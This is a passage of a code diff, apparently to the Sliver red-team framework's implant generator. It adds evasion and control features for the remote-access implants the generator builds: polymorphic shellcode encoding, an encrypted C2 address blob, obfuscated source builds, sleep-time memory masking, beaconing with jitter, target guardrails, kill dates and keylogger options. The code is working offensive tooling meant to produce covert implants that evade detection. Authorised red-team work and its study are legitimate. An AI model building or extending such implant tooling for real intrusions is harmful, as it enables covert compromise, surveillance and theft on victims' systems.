@@ -22,6 +22,9 @@ import (
 	"bytes"
 	"crypto/rand"
 	"crypto/sha256"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/hex"
 	"errors"
 	"fmt"
 	"io/ioutil"
@@ -29,16 +32,21 @@ import (
 	"os"
 	"path"
 	"path/filepath"
+	"regexp"
 	"runtime"
+	"sort"
 	"strings"
 	"text/template"
+	"time"
 
 	"github.com/bishopfox/sliver/protobuf/clientpb"
 	"github.com/bishopfox/sliver/server/assets"
 	"github.com/bishopfox/sliver/server/certs"
+	"github.com/bishopfox/sliver/server/cryptography"
 	"github.com/bishopfox/sliver/server/gobfuscate"
 	"github.com/bishopfox/sliver/server/gogo"
 	"github.com/bishopfox/sliver/server/log"
+	"github.com/bishopfox/sliver/server/sgn"
 	"github.com/bishopfox/sliver/util"
 
 	"github.com/gobuffalo/packr"
@@ -46,10 +54,40 @@ import (
 
 var (
 	buildLog = log.NamedLogger("generate", "build")
+
+	// ErrEncoderNotShellcode - Encoders only apply to shellcode
+	ErrEncoderNotShellcode = errors.New("Encoders can only be used with the shellcode format")
+
+	// ErrEncoderPatchable - The patch region can't be found once it's encoded
+	ErrEncoderPatchable = errors.New("Encoded shellcode can't be patchable")
+
+	// ErrWasmFeature - The js/wasm target is an HTTP(S) session implant only
+	ErrWasmFeature = errors.New("js/wasm implants only support HTTP(S) sessions in the executable format, without guardrails or patching")
+
+	// ErrDebugOperational - Debug builds must be explicitly allowed to be operational
+	ErrDebugOperational = errors.New("Debug builds can't be operational unless debug is allowed")
+
 	// Fix #67: use an arch specific compiler
-	defaultMingwPath = map[string]string{
-		"386":   "/usr/bin/i686-w64-mingw32-gcc",
-		"amd64": "/usr/bin/x86_64-w64-mingw32-gcc",
+	exportNamePattern   = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]{0,63}$`)
+	limitDomainPattern  = regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9._-]{0,252}$`)
+	reservedExportNames = map[string]bool{
+		"DllMain":    true,
+		"Enjoy":      true,
+		"init":       true,
+		"main":       true,
+		"VoidFunc":   true,
+		"DllInstall": true,
+	}
+
+	// defaultCCompilers - C cross-compilers used for cgo builds (shared libraries
+	// and shellcode) when the target differs from the server's own platform
+	defaultCCompilers = map[string]string{
+		"windows/386":   "/usr/bin/i686-w64-mingw32-gcc",
+		"windows/amd64": "/usr/bin/x86_64-w64-mingw32-gcc",
+		"windows/arm64": "/usr/bin/aarch64-w64-mingw32-clang", // llvm-mingw
+		"linux/386":     "/usr/bin/i686-linux-gnu-gcc",
+		"linux/amd64":   "/usr/bin/x86_64-linux-gnu-gcc",
+		"linux/arm64":   "/usr/bin/aarch64-linux-gnu-gcc",
 	}
 )
 
@@ -63,6 +101,9 @@ const (
 	// LINUX OS
 	LINUX = "linux"
 
+	// JS - Experimental js/wasm target for browsers and edge runtimes
+	JS = "js"
+
 	clientsDirName = "clients"
 	sliversDirName = "slivers"
 
@@ -70,6 +111,8 @@ const (
 
 	// DefaultReconnectInterval - In seconds
 	DefaultReconnectInterval = 60
+	// DefaultBeaconInterval - In seconds
+	DefaultBeaconInterval = 60
 	// DefaultMTLSLPort - Default listen port
 	DefaultMTLSLPort = 8888
 	// DefaultHTTPLPort - Default HTTP listen port
@@ -79,6 +122,12 @@ const (
 	SliverCC64EnvVar = "SLIVER_CC_64"
 	// SliverCC32EnvVar - Environment variable that can specify the 32 bit mingw path
 	SliverCC32EnvVar = "SLIVER_CC_32"
+	// DefaultExportName - Shared library export that starts the C2 loop
+	DefaultExportName = "RunSliver"
+
+	// SliverCCEnvVarPrefix - Environment variables of the form SLIVER_CC_<GOOS>_<GOARCH>
+	// (e.g. SLIVER_CC_DARWIN_ARM64) specify the C compiler for any other target
+	SliverCCEnvVarPrefix = "SLIVER_CC_"
 )
 
 // ImplantConfig - Parameters when generating a implant
@@ -95,14 +144,18 @@ type ImplantConfig struct {
 	Debug               bool   `json:"debug"`
 	Evasion             bool   `json:"evasion"`
 	ObfuscateSymbols    bool   `json:"obfuscate_symbols"`
+	ObfuscationSeed     string `json:"obfuscation_seed"`
 	ReconnectInterval   int    `json:"reconnect_interval"`
 	MaxConnectionErrors int    `json:"max_connection_errors"`
 
 	C2                []ImplantC2 `json:"c2s"`
+	C2Key             string      `json:"c2_key"` // Encrypts the C2 blob, new for each build
 	MTLSc2Enabled     bool        `json:"c2_mtls_enabled"`
 	HTTPc2Enabled     bool        `json:"c2_http_enabled"`
 	DNSc2Enabled      bool        `json:"c2_dns_enabled"`
 	CanaryDomains     []string    `json:"canary_domains"`
+	CanaryDecoyCount  int         `json:"canary_decoy_count"`
+	CanaryDecoys      []string    `json:"canary_decoys"`
 	NamePipec2Enabled bool        `json:"c2_namedpipe_enabled"`
 	TCPPivotc2Enabled bool        `json:"c2_tcppivot_enabled"`
 
@@ -112,6 +165,41 @@ type ImplantConfig struct {
 	LimitUsername     string `json:"limit_username"`
 	LimitDatetime     string `json:"limit_datetime"`
 
+	// Guardrails - The implant exits unless these match
+	LimitHostnameRegex string `json:"limit_hostname_regex"`
+	LimitUsernameRegex string `json:"limit_username_regex"`
+	LimitDomain        string `json:"limit_domain"`
+	LimitNotBefore     string `json:"limit_not_before"`
+
+	// Operational - Cleared for use against targets
+	Operational bool `json:"operational"`
+
+	// Build record, every artifact's SHA256 is also indexed in the db
+	Operator  string   `json:"operator"`
+	GoVersion string   `json:"go_version"`
+	SHA256    string   `json:"sha256"`
+	Canaries  []string `json:"canaries"`
+
+	// Patchable - The config is in a region that's patched for each variant
+	Patchable   bool   `json:"patchable"`
+	PatchMarker string `json:"patch_marker"`
+	PatchedFrom string `json:"patched_from"`
+
+	// Encoder - Polymorphic encoding pass for shellcode builds
+	Encoder     clientpb.ImplantConfig_ShellcodeEncoder `json:"encoder"`
+	EncoderSeed int64                                   `json:"encoder_seed"`
+
+	// Features that depend on cgo or platform bindings on some targets can be
+	// left out, their commands report an error at runtime instead
+	NoScreenshot bool `json:"no_screenshot"`
+	NoKeylogger  bool `json:"no_keylogger"`
+
+	// Network - Traffic shaping profile, only the name is set until it's built
+	Network *NetworkProfile `json:"network"`
+
+	// KillDate - RFC3339, the implant removes its persistence and exits after it
+	KillDate string `json:"kill_date"`
+
 	// Output Format
 	Format clientpb.ImplantConfig_OutputFormat `json:"format"`
 
@@ -119,6 +207,19 @@ type ImplantConfig struct {
 	IsSharedLib bool `json:"is_shared_lib"`
 	IsService   bool `json:"is_service"`
 
+	// ExportName - Shared library export that starts the C2 loop, RunAtLoad
+	// also starts it from DllMain when a Windows DLL is loaded
+	ExportName string `json:"export_name"`
+	RunAtLoad  bool   `json:"run_at_load"`
+
+	// Beacon mode, intervals are in seconds
+	IsBeacon       bool  `json:"is_beacon"`
+	BeaconInterval int64 `json:"beacon_interval"`
+	BeaconJitter   int64 `json:"beacon_jitter"`
+
+	// SleepObfuscation - Mask secrets in memory between beacon check-ins
+	SleepObfuscation bool `json:"sleep_obfuscation"`
+
 	FileName string
 }
 
@@ -134,19 +235,53 @@ func (c *ImplantConfig) ToProtobuf() *clientpb.ImplantConfig {
 		Debug:            c.Debug,
 		Evasion:          c.Evasion,
 		ObfuscateSymbols: c.ObfuscateSymbols,
+		ObfuscationSeed:  c.ObfuscationSeed,
 		CanaryDomains:    c.CanaryDomains,
+		CanaryDecoyCount: uint32(c.CanaryDecoyCount),
+		CanaryDecoys:     c.CanaryDecoys,
 
 		ReconnectInterval:   uint32(c.ReconnectInterval),
 		MaxConnectionErrors: uint32(c.MaxConnectionErrors),
 
 		LimitDatetime:     c.LimitDatetime,
+		KillDate:          c.KillDate,
 		LimitDomainJoined: c.LimitDomainJoined,
 		LimitHostname:     c.LimitHostname,
 		LimitUsername:     c.LimitUsername,
 
+		LimitHostnameRegex: c.LimitHostnameRegex,
+		LimitUsernameRegex: c.LimitUsernameRegex,
+		LimitDomain:        c.LimitDomain,
+		LimitNotBefore:     c.LimitNotBefore,
+
+		Operational: c.Operational,
+
+		Operator:  c.Operator,
+		GoVersion: c.GoVersion,
+		SHA256:    c.SHA256,
+		Canaries:  c.Canaries,
+
+		Patchable:   c.Patchable,
+		PatchMarker: c.PatchMarker,
+		PatchedFrom: c.PatchedFrom,
+
+		Encoder:     c.Encoder,
+		EncoderSeed: c.EncoderSeed,
+
+		NoScreenshot: c.NoScreenshot,
+		NoKeylogger:  c.NoKeylogger,
+
 		IsSharedLib: c.IsSharedLib,
 		IsService:   c.IsService,
 		Format:      c.Format,
+		ExportName:  c.ExportName,
+		RunAtLoad:   c.RunAtLoad,
+
+		IsBeacon:       c.IsBeacon,
+		BeaconInterval: c.BeaconInterval,
+		BeaconJitter:   c.BeaconJitter,
+
+		SleepObfuscation: c.SleepObfuscation,
 
 		FileName: c.FileName,
 	}
@@ -154,6 +289,9 @@ func (c *ImplantConfig) ToProtobuf() *clientpb.ImplantConfig {
 	for _, c2 := range c.C2 {
 		config.C2 = append(config.C2, c2.ToProtobuf())
 	}
+	if c.Network != nil {
+		config.Network = c.Network.ToProtobuf()
+	}
 	return config
 }
 
@@ -170,19 +308,53 @@ func ImplantConfigFromProtobuf(pbConfig *clientpb.ImplantConfig) *ImplantConfig
 	cfg.Debug = pbConfig.Debug
 	cfg.Evasion = pbConfig.Evasion
 	cfg.ObfuscateSymbols = pbConfig.ObfuscateSymbols
+	cfg.ObfuscationSeed = pbConfig.ObfuscationSeed
 	cfg.CanaryDomains = pbConfig.CanaryDomains
+	cfg.CanaryDecoyCount = int(pbConfig.CanaryDecoyCount)
+	cfg.CanaryDecoys = pbConfig.CanaryDecoys
 
 	cfg.ReconnectInterval = int(pbConfig.ReconnectInterval)
 	cfg.MaxConnectionErrors = int(pbConfig.MaxConnectionErrors)
 
 	cfg.LimitDomainJoined = pbConfig.LimitDomainJoined
 	cfg.LimitDatetime = pbConfig.LimitDatetime
+	cfg.KillDate = pbConfig.KillDate
 	cfg.LimitUsername = pbConfig.LimitUsername
 	cfg.LimitHostname = pbConfig.LimitHostname
+	cfg.LimitHostnameRegex = pbConfig.LimitHostnameRegex
+	cfg.LimitUsernameRegex = pbConfig.LimitUsernameRegex
+	cfg.LimitDomain = pbConfig.LimitDomain
+	cfg.LimitNotBefore = pbConfig.LimitNotBefore
+	cfg.Operational = pbConfig.Operational
+	cfg.Operator = pbConfig.Operator
+	cfg.GoVersion = pbConfig.GoVersion
+	cfg.SHA256 = pbConfig.SHA256
+	cfg.Canaries = pbConfig.Canaries
+	cfg.Patchable = pbConfig.Patchable
+	cfg.PatchMarker = pbConfig.PatchMarker
+	cfg.PatchedFrom = pbConfig.PatchedFrom
+	cfg.Encoder = pbConfig.Encoder
+	cfg.EncoderSeed = pbConfig.EncoderSeed
+	cfg.NoScreenshot = pbConfig.NoScreenshot
+	cfg.NoKeylogger = pbConfig.NoKeylogger
+	cfg.Network = NetworkProfileFromProtobuf(pbConfig.Network)
 
 	cfg.Format = pbConfig.Format
 	cfg.IsSharedLib = pbConfig.IsSharedLib
 	cfg.IsService = pbConfig.IsService
+	cfg.ExportName = pbConfig.ExportName
+	if cfg.ExportName == "" {
+		cfg.ExportName = DefaultExportName
+	}
+	cfg.RunAtLoad = pbConfig.RunAtLoad
+
+	cfg.IsBeacon = pbConfig.IsBeacon
+	cfg.BeaconInterval = pbConfig.BeaconInterval
+	if cfg.IsBeacon && cfg.BeaconInterval < 1 {
+		cfg.BeaconInterval = DefaultBeaconInterval
+	}
+	cfg.BeaconJitter = pbConfig.BeaconJitter
+	cfg.SleepObfuscation = pbConfig.SleepObfuscation
 
 	cfg.C2 = copyC2List(pbConfig.C2)
 	cfg.MTLSc2Enabled = isC2Enabled([]string{"mtls"}, cfg.C2)
@@ -249,6 +421,77 @@ func (s ImplantC2) String() string {
 	return s.URL
 }
 
+// validC2Schemes - Schemes the implant can connect with
+var validC2Schemes = []string{"mtls", "http", "https", "dns", "namedpipe", "tcppivot"}
+
+// validateC2 - Each C2 must be a URL with a host and a scheme the implant supports
+func validateC2(c2s []ImplantC2) error {
+	if len(c2s) == 0 {
+		return errors.New("Must specify at least one C2 endpoint")
+	}
+	for _, c2 := range c2s {
+		uri, err := url.Parse(c2.URL)
+		if err != nil {
+			return fmt.Errorf("Invalid C2 URL '%s': %s", c2.URL, err)
+		}
+		if uri.Host == "" {
+			return fmt.Errorf("Invalid C2 URL '%s': missing host", c2.URL)
+		}
+		if !isValidC2Scheme(uri.Scheme) {
+			return fmt.Errorf("Invalid C2 URL '%s': unsupported scheme '%s'", c2.URL, uri.Scheme)
+		}
+	}
+	return nil
+}
+
+func isValidC2Scheme(scheme string) bool {
+	for _, validScheme := range validC2Schemes {
+		if scheme == validScheme {
+			return true
+		}
+	}
+	return false
+}
+
+// sortC2 - Order C2s by priority (lowest first), equal priorities keep their order
+func sortC2(c2s []ImplantC2) {
+	sort.SliceStable(c2s, func(i, j int) bool {
+		return c2s[i].Priority < c2s[j].Priority
+	})
+}
+
+// C2Blob - The C2 URLs in priority order, encrypted with the build's C2 key
+func (c *ImplantConfig) C2Blob() string {
+	key, err := hex.DecodeString(c.C2Key)
+	if err != nil {
+		buildLog.Errorf("Invalid C2 key: %s", err)
+		return ""
+	}
+	aesKey, err := cryptography.AESKeyFromBytes(key)
+	if err != nil {
+		buildLog.Errorf("Invalid C2 key: %s", err)
+		return ""
+	}
+	urls := []string{}
+	for _, c2 := range c.C2 {
+		urls = append(urls, c2.URL)
+	}
+	data, err := cryptography.GCMEncrypt(aesKey, []byte(strings.Join(urls, "\n")))
+	if err != nil {
+		buildLog.Errorf("Failed to encrypt C2 blob: %s", err)
+		return ""
+	}
+	return base64.StdEncoding.EncodeToString(data)
+}
+
+// newC2Key - Every build gets its own key for the C2 blob, patched variants keep
+// the key compiled into the build they're patched from
+func newC2Key() string {
+	key := make([]byte, cryptography.AESKeySize)
+	rand.Read(key)
+	return hex.EncodeToString(key)
+}
+
 // GetSliversDir - Get the binary directory
 func GetSliversDir() string {
 	appDir := assets.GetRootAppDir()
@@ -269,23 +512,29 @@ func GetSliversDir() string {
 
 // SliverShellcode - Generates a sliver shellcode using sRDI
 func SliverShellcode(config *ImplantConfig) (string, error) {
+	// The sRDI loader only has x86 and x64 stubs
+	if config.GOOS != WINDOWS || (config.GOARCH != "amd64" && config.GOARCH != "386") {
+		return "", fmt.Errorf("Shellcode is only supported for windows/amd64 and windows/386, not %s/%s", config.GOOS, config.GOARCH)
+	}
+
 	// Compile go code
 	var crossCompiler string
 	appDir := assets.GetRootAppDir()
 	// Don't use a cross-compiler if the target bin is built on the same platform
 	// as the sliver-server.
-	if runtime.GOOS != config.GOOS {
-		crossCompiler = getCCompiler(config.GOARCH)
+	if runtime.GOOS != config.GOOS || runtime.GOARCH != config.GOARCH {
+		crossCompiler = getCCompiler(config.GOOS, config.GOARCH)
 		if crossCompiler == "" {
-			return "", errors.New("No cross-compiler (mingw) found")
+			return "", fmt.Errorf("No cross-compiler found for %s/%s", config.GOOS, config.GOARCH)
 		}
 	}
 	goConfig := &gogo.GoConfig{
-		CGO:    "1",
-		CC:     crossCompiler,
-		GOOS:   config.GOOS,
-		GOARCH: config.GOARCH,
-		GOROOT: gogo.GetGoRootDir(appDir),
+		CGO:     "1",
+		CC:      crossCompiler,
+		GOOS:    config.GOOS,
+		GOARCH:  config.GOARCH,
+		GOROOT:  gogo.GetGoRootDir(appDir),
+		GOCACHE: gogo.GetGoCacheDir(appDir, config.GOOS, config.GOARCH),
 	}
 	pkgPath, err := renderSliverGoCode(config, goConfig)
 	if err != nil {
@@ -296,18 +545,22 @@ func SliverShellcode(config *ImplantConfig) (string, error) {
 	dest += ".bin"
 
 	tags := []string{"netgo"}
-	ldflags := []string{"-s -w -buildid="}
-	if !config.Debug && goConfig.GOOS == WINDOWS {
-		ldflags[0] += " -H=windowsgui"
-	}
+	ldflags := implantLDFlags(config)
 	// Keep those for potential later use
 	gcflags := fmt.Sprintf("")
 	asmflags := fmt.Sprintf("")
 	// trimpath is now a separate flag since Go 1.13
-	trimpath := "-trimpath"
+	trimpath := implantTrimpath(config)
 	_, err = gogo.GoBuild(*goConfig, pkgPath, dest, "c-shared", tags, ldflags, gcflags, asmflags, trimpath)
+	if err != nil {
+		return "", err
+	}
 	config.FileName = path.Base(dest)
-	shellcode, err := ShellcodeRDI(dest, "RunSliver", "")
+	shellcode, err := ShellcodeRDI(dest, config.ExportName, "")
+	if err != nil {
+		return "", err
+	}
+	shellcode, err = encodeShellcode(config, shellcode)
 	if err != nil {
 		return "", err
 	}
@@ -317,7 +570,8 @@ func SliverShellcode(config *ImplantConfig) (string, error) {
 	}
 	config.Format = clientpb.ImplantConfig_SHELLCODE
 	// Save to database
-	saveFileErr := ImplantFileSave(config.Name, dest)
+	digest, saveFileErr := ImplantFileSave(config.Name, dest)
+	config.SHA256 = digest
 	saveCfgErr := ImplantConfigSave(config)
 	if saveFileErr != nil || saveCfgErr != nil {
 		buildLog.Errorf("Failed to save file to db %s %s", saveFileErr, saveCfgErr)
@@ -333,18 +587,19 @@ func SliverSharedLibrary(config *ImplantConfig) (string, error) {
 	appDir := assets.GetRootAppDir()
 	// Don't use a cross-compiler if the target bin is built on the same platform
 	// as the sliver-server.
-	if runtime.GOOS != config.GOOS {
-		crossCompiler = getCCompiler(config.GOARCH)
+	if runtime.GOOS != config.GOOS || runtime.GOARCH != config.GOARCH {
+		crossCompiler = getCCompiler(config.GOOS, config.GOARCH)
 		if crossCompiler == "" {
-			return "", errors.New("No cross-compiler (mingw) found")
+			return "", fmt.Errorf("No cross-compiler found for %s/%s", config.GOOS, config.GOARCH)
 		}
 	}
 	goConfig := &gogo.GoConfig{
-		CGO:    "1",
-		CC:     crossCompiler,
-		GOOS:   config.GOOS,
-		GOARCH: config.GOARCH,
-		GOROOT: gogo.GetGoRootDir(appDir),
+		CGO:     "1",
+		CC:      crossCompiler,
+		GOOS:    config.GOOS,
+		GOARCH:  config.GOARCH,
+		GOROOT:  gogo.GetGoRootDir(appDir),
+		GOCACHE: gogo.GetGoCacheDir(appDir, config.GOOS, config.GOARCH),
 	}
 	pkgPath, err := renderSliverGoCode(config, goConfig)
 	if err != nil {
@@ -363,18 +618,16 @@ func SliverSharedLibrary(config *ImplantConfig) (string, error) {
 	}
 
 	tags := []string{"netgo"}
-	ldflags := []string{"-s -w -buildid="}
-	if !config.Debug && goConfig.GOOS == WINDOWS {
-		ldflags[0] += " -H=windowsgui"
-	}
+	ldflags := implantLDFlags(config)
 	// Keep those for potential later use
 	gcflags := fmt.Sprintf("")
 	asmflags := fmt.Sprintf("")
 	// trimpath is now a separate flag since Go 1.13
-	trimpath := "-trimpath"
+	trimpath := implantTrimpath(config)
 	_, err = gogo.GoBuild(*goConfig, pkgPath, dest, "c-shared", tags, ldflags, gcflags, asmflags, trimpath)
 	config.FileName = path.Base(dest)
-	saveFileErr := ImplantFileSave(config.Name, dest)
+	digest, saveFileErr := ImplantFileSave(config.Name, dest)
+	config.SHA256 = digest
 	saveCfgErr := ImplantConfigSave(config)
 	if saveFileErr != nil || saveCfgErr != nil {
 		buildLog.Errorf("Failed to save file to db %s %s", saveFileErr, saveCfgErr)
@@ -382,6 +635,25 @@ func SliverSharedLibrary(config *ImplantConfig) (string, error) {
 	return dest, err
 }
 
+// SliverImplant - Build an implant in its configured format, returns the path
+func SliverImplant(config *ImplantConfig) (string, error) {
+	if config.Encoder != clientpb.ImplantConfig_NONE && config.Format != clientpb.ImplantConfig_SHELLCODE {
+		return "", ErrEncoderNotShellcode
+	}
+	switch config.Format {
+	case clientpb.ImplantConfig_SERVICE:
+		config.IsService = true
+		return SliverExecutable(config)
+	case clientpb.ImplantConfig_EXECUTABLE:
+		return SliverExecutable(config)
+	case clientpb.ImplantConfig_SHARED_LIB:
+		return SliverSharedLibrary(config)
+	case clientpb.ImplantConfig_SHELLCODE:
+		return SliverShellcode(config)
+	}
+	return "", fmt.Errorf("Unknown implant format %v", config.Format)
+}
+
 // SliverExecutable - Generates a sliver executable binary
 func SliverExecutable(config *ImplantConfig) (string, error) {
 
@@ -392,10 +664,11 @@ func SliverExecutable(config *ImplantConfig) (string, error) {
 		cgo = "1"
 	}
 	goConfig := &gogo.GoConfig{
-		CGO:    cgo,
-		GOOS:   config.GOOS,
-		GOARCH: config.GOARCH,
-		GOROOT: gogo.GetGoRootDir(appDir),
+		CGO:     cgo,
+		GOOS:    config.GOOS,
+		GOARCH:  config.GOARCH,
+		GOROOT:  gogo.GetGoRootDir(appDir),
+		GOCACHE: gogo.GetGoCacheDir(appDir, config.GOOS, config.GOARCH),
 	}
 	pkgPath, err := renderSliverGoCode(config, goConfig)
 	if err != nil {
@@ -406,18 +679,19 @@ func SliverExecutable(config *ImplantConfig) (string, error) {
 	if goConfig.GOOS == WINDOWS {
 		dest += ".exe"
 	}
-	tags := []string{"netgo"}
-	ldflags := []string{"-s -w -buildid="}
-	if !config.Debug && goConfig.GOOS == WINDOWS {
-		ldflags[0] += " -H=windowsgui"
+	if goConfig.GOOS == JS {
+		dest += ".wasm"
 	}
+	tags := []string{"netgo"}
+	ldflags := implantLDFlags(config)
 	gcflags := fmt.Sprintf("")
 	asmflags := fmt.Sprintf("")
 	// trimpath is now a separate flag since Go 1.13
-	trimpath := "-trimpath"
+	trimpath := implantTrimpath(config)
 	_, err = gogo.GoBuild(*goConfig, pkgPath, dest, "", tags, ldflags, gcflags, asmflags, trimpath)
 	config.FileName = path.Base(dest)
-	saveFileErr := ImplantFileSave(config.Name, dest)
+	digest, saveFileErr := ImplantFileSave(config.Name, dest)
+	config.SHA256 = digest
 	saveCfgErr := ImplantConfigSave(config)
 	if saveFileErr != nil || saveCfgErr != nil {
 		buildLog.Errorf("Failed to save file to db %s %s", saveFileErr, saveCfgErr)
@@ -435,6 +709,31 @@ func renderSliverGoCode(config *ImplantConfig, goConfig *gogo.GoConfig) (string,
 	if config.Name == "" {
 		config.Name = GetCodename()
 	}
+	if config.ExportName == "" {
+		config.ExportName = DefaultExportName
+	}
+	if config.IsSharedLib && !ValidExportName(config.ExportName) {
+		return "", fmt.Errorf("Invalid export name: %s", config.ExportName)
+	}
+	if MaxCanaryDecoys < config.CanaryDecoyCount {
+		return "", fmt.Errorf("Too many canary decoys (max %d)", MaxCanaryDecoys)
+	}
+	if config.IsService && (config.GOOS != WINDOWS || config.IsSharedLib) {
+		return "", fmt.Errorf("Service format is only supported for windows executables, not %s/%s", config.GOOS, config.GOARCH)
+	}
+	if err := validateC2(config.C2); err != nil {
+		return "", err
+	}
+	if err := validateGuardrails(config); err != nil {
+		return "", err
+	}
+	if err := validateWasm(config); err != nil {
+		return "", err
+	}
+	if err := applyNetworkProfile(config); err != nil {
+		return "", err
+	}
+	sortC2(config.C2)
 	buildLog.Infof("Generating new sliver binary '%s'", config.Name)
 
 	config.MTLSc2Enabled = isC2Enabled([]string{"mtls"}, config.C2)
@@ -447,16 +746,22 @@ func renderSliverGoCode(config *ImplantConfig, goConfig *gogo.GoConfig) (string,
 	projectGoPathDir := path.Join(sliversDir, config.GOOS, config.GOARCH, config.Name)
 	os.MkdirAll(projectGoPathDir, 0700)
 	goConfig.GOPATH = projectGoPathDir
+	recordGoVersion(config, goConfig)
 
-	// Cert PEM encoded certificates
-	serverCACert, _, _ := certs.GetCertificateAuthorityPEM(certs.ServerCA)
-	sliverCert, sliverKey, err := certs.SliverGenerateECCCertificate(config.Name)
-	if err != nil {
-		return "", err
+	// Cert PEM encoded certificates, rebuilds keep the implant's certificate and
+	// external builders use the certificates issued by the server
+	if config.CACert == "" {
+		serverCACert, _, _ := certs.GetCertificateAuthorityPEM(certs.ServerCA)
+		config.CACert = string(serverCACert)
+	}
+	if config.Cert == "" || config.Key == "" {
+		sliverCert, sliverKey, err := certs.SliverGenerateECCCertificate(config.Name)
+		if err != nil {
+			return "", err
+		}
+		config.Cert = string(sliverCert)
+		config.Key = string(sliverKey)
 	}
-	config.CACert = string(serverCACert)
-	config.Cert = string(sliverCert)
-	config.Key = string(sliverKey)
 
 	// binDir - ~/.sliver/slivers/<os>/<arch>/<name>/bin
 	binDir := path.Join(projectGoPathDir, "bin")
@@ -464,8 +769,8 @@ func renderSliverGoCode(config *ImplantConfig, goConfig *gogo.GoConfig) (string,
 
 	// srcDir - ~/.sliver/slivers/<os>/<arch>/<name>/src
 	srcDir := path.Join(projectGoPathDir, "src")
-	assets.SetupGoPath(srcDir)            // Extract GOPATH dependency files
-	err = util.ChmodR(srcDir, 0600, 0700) // Ensures src code files are writable
+	assets.SetupGoPath(srcDir)             // Extract GOPATH dependency files
+	err := util.ChmodR(srcDir, 0600, 0700) // Ensures src code files are writable
 	if err != nil {
 		buildLog.Errorf("fs perms: %v", err)
 		return "", err
@@ -474,9 +779,63 @@ func renderSliverGoCode(config *ImplantConfig, goConfig *gogo.GoConfig) (string,
 	sliverPkgDir := path.Join(srcDir, "github.com", "bishopfox", "sliver") // "main"
 	os.MkdirAll(sliverPkgDir, 0700)
 
-	// Load code template
+	// Canaries are saved to the db as they're generated
+	buildLog.Infof("Canary domain(s): %v", config.CanaryDomains)
+	canaryGenerator := &CanaryGenerator{
+		ImplantName:   config.Name,
+		ParentDomains: config.CanaryDomains,
+		Recorded:      config.Canaries,
+	}
+	if len(config.CanaryDecoys) == 0 {
+		config.CanaryDecoys = canaryGenerator.GenerateDecoys(config.CanaryDecoyCount)
+	}
+
+	config.C2Key = newC2Key()
+	renderConfig, patchRegionData, err := patchRenderConfig(config)
+	if err != nil {
+		return "", err
+	}
+
+	err = renderSrcFiles(config, renderConfig, patchRegionData, canaryGenerator, sliverPkgDir)
+	if err != nil {
+		return "", err
+	}
+	config.Canaries = canaryGenerator.Canaries()
+
+	if !config.Debug {
+		buildLog.Infof("Obfuscating source code ...")
+		obfgoPath := path.Join(projectGoPathDir, "obfuscated")
+		pkgName := "github.com/bishopfox/sliver"
+		obfSymbols := config.ObfuscateSymbols
+		if config.ObfuscationSeed == "" {
+			config.ObfuscationSeed = randomObfuscationSeed()
+		}
+		buildLog.Infof("Obfuscation seed: %s", config.ObfuscationSeed)
+		obfuscatedPkg, err := gobfuscate.Gobfuscate(*goConfig, config.ObfuscationSeed, pkgName, obfgoPath, obfSymbols)
+		if err != nil {
+			buildLog.Infof("Error while obfuscating sliver %v", err)
+			return "", err
+		}
+		goConfig.GOPATH = obfgoPath
+		buildLog.Infof("Obfuscated GOPATH = %s", obfgoPath)
+		buildLog.Infof("Obfuscated sliver package: %s", obfuscatedPkg)
+		sliverPkgDir = path.Join(obfgoPath, "src", obfuscatedPkg) // new "main"
+	}
+	if err != nil {
+		buildLog.Errorf("Failed to save sliver config %s", err)
+	}
+	return sliverPkgDir, nil
+}
+
+// renderSrcFiles - Render the implant source files for the config's target into
+// the package directory, the same code is type checked by the generate tests
+func renderSrcFiles(config *ImplantConfig, renderConfig *ImplantConfig, patchRegionData string, canaryGenerator *CanaryGenerator, sliverPkgDir string) error {
 	sliverBox := packr.NewBox("../../sliver")
-	for index, boxName := range srcFiles {
+	files := srcFiles
+	if config.GOOS == JS {
+		files = wasmSrcFiles
+	}
+	for index, boxName := range files {
 
 		// Gobfuscate doesn't handle all the platform specific code
 		// well and the renamer can get confused when symbols for a
@@ -496,6 +855,23 @@ func renderSliverGoCode(config *ImplantConfig, goConfig *gogo.GoConfig) (string,
 				buildLog.Infof("Skipping file wrong os/arch: %s", boxName)
 				continue
 			}
+			// _GOOS_GOARCH files need both to match, and keep both in their new name
+			if 2 < len(fileNameParts) {
+				goos := fileNameParts[len(fileNameParts)-2]
+				goarch := strings.TrimSuffix(fileNameParts[len(fileNameParts)-1], ".go")
+				if _, ok := gogo.ValidCompilerTargets[fmt.Sprintf("%s/%s", goos, goarch)]; ok {
+					if goos != strings.ToLower(config.GOOS) || goarch != strings.ToLower(config.GOARCH) {
+						buildLog.Infof("Skipping file wrong os/arch: %s", boxName)
+						continue
+					}
+					suffix = fmt.Sprintf("_%s_%s.go", goos, goarch)
+				}
+			}
+		}
+
+		if isFeatureExcluded(config, boxName) {
+			buildLog.Infof("Skipping (feature disabled): %s", boxName)
+			continue
 		}
 
 		sliverGoCode, _ := sliverBox.FindString(boxName)
@@ -535,16 +911,13 @@ func renderSliverGoCode(config *ImplantConfig, goConfig *gogo.GoConfig) (string,
 		buildLog.Infof("[render] %s -> %s", boxName, sliverCodePath)
 
 		// Render code
-		sliverCodeTmpl, _ := template.New("sliver").Parse(sliverGoCode)
-		sliverCodeTmpl.Execute(buf, config)
+		sliverCodeTmpl, _ := template.New("sliver").Funcs(template.FuncMap{
+			"PatchRegion": func() string { return patchRegionData },
+		}).Parse(sliverGoCode)
+		sliverCodeTmpl.Execute(buf, renderConfig)
 
 		// Render canaries
-		buildLog.Infof("Canary domain(s): %v", config.CanaryDomains)
 		canaryTmpl := template.New("canary").Delims("[[", "]]")
-		canaryGenerator := &CanaryGenerator{
-			ImplantName:   config.Name,
-			ParentDomains: config.CanaryDomains,
-		}
 		canaryTmpl, err := canaryTmpl.Funcs(template.FuncMap{
 			"GenerateCanary": canaryGenerator.GenerateCanary,
 		}).Parse(buf.String())
@@ -552,45 +925,74 @@ func renderSliverGoCode(config *ImplantConfig, goConfig *gogo.GoConfig) (string,
 
 		if err != nil {
 			buildLog.Infof("Failed to render go code: %s", err)
-			return "", err
+			return err
 		}
 	}
+	return nil
+}
 
-	if !config.Debug {
-		buildLog.Infof("Obfuscating source code ...")
-		obfgoPath := path.Join(projectGoPathDir, "obfuscated")
-		pkgName := "github.com/bishopfox/sliver"
-		obfSymbols := config.ObfuscateSymbols
-		obfKey := randomObfuscationKey()
-		obfuscatedPkg, err := gobfuscate.Gobfuscate(*goConfig, obfKey, pkgName, obfgoPath, obfSymbols)
-		if err != nil {
